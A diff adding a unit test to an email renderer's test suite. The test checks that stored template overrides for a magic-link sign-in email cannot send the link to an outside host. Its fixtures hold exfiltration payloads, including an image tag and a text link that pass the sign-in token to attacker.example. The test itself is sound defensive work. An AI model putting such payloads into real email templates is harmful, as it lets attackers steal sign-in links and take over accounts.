@@ -76,6 +76,20 @@ describe('renderSystemEmail', () => {
     expect(email.text).toContain('https://app.example/auth/verify?token=a&b');
   });
 
+  it('when a replacement stored before the link rule sends the link elsewhere, then the built-in one goes out', () => {
+    const leaky = [
+      { subject: null, body: '<a href="{{link}}">In</a><img src="https://attacker.example/p.gif?t={{link}}">', text_body: null },
+      { subject: null, body: '<a href="{{link}}">In</a>', text_body: 'https://attacker.example/?t={{link}}' },
+      { subject: 'Link: {{link}}', body: '<a href="{{link}}">In</a>', text_body: null },
+    ];
+    for (const override of leaky) {
+      const email = renderSystemEmail('auth.magic_link', values, override);
+      expect(email.html).toContain('Sign in to Herald');
+      expect(JSON.stringify(email)).not.toContain('attacker.example');
+      expect(email.subject).toBe('Your Herald sign-in link');
+    }
+  });
+
   it('when a stored replacement no longer renders, then the built-in one goes out instead of failing the sign-in', () => {
     const email = renderSystemEmail('auth.magic_link', values, { subject: null, body: '{{link}} {{gone}}', text_body: null });
     expect(email.html).toContain('Sign in to Herald');
